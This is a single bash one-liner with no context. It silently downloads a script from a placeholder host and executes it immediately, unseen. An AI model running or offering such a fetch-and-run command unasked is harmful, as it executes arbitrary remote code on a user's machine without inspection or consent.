bash <(curl -s https://x.example/i)
